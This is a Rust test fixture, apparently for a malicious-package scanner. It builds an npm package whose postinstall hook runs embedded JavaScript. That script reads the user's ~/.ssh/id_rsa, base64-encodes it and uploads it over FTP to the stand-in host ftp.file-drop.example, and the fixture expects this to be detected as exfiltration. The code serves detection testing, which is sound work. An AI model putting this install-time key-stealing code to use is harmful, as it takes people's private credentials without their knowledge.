//! An npm `postinstall` that stores the base64 of `~/.ssh/id_rsa` on a file server, by a passive transfer.
//!
//! Must be found: the bait's secret in a stored file.

use apa_model::Ecosystem;

use crate::{Expect, NpmPackage, Specimen};

const SYNC: &str = r#"const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');
let key = '';
try {
  key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')).toString('base64');
} catch {}
const steps = ['USER drop', 'PASS hunter2', 'TYPE I', 'PASV'];
const socket = net.connect(21, 'ftp.file-drop.example');
socket.setTimeout(15000, () => socket.destroy());
socket.on('data', (data) => {
  const text = String(data);
  const passive = /^227 .*\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)/m.exec(text);
  if (passive) {
    const [a, b, c, d, high, low] = passive.slice(1).map(Number);
    const transfer = net.connect(high * 256 + low, [a, b, c, d].join('.'), () => socket.write('STOR id_rsa.txt\r\n'));
    transfer.on('error', () => socket.destroy());
    socket.transfer = transfer;
  } else if (text.startsWith('150')) {
    socket.transfer.end(key);
  } else if (text.startsWith('226')) {
    socket.end('QUIT\r\n');
  } else if (/^[23]/.test(text) && steps.length) {
    socket.write(steps.shift() + '\r\n');
  }
});
socket.on('error', () => {});
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("asset-sync", "0.9.2")
        .script("postinstall", "node sync.js")
        .file("sync.js", SYNC);
    Specimen {
        name: "npm-uploads-ssh-key",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["canary-exfiltrated"]),
    }
}
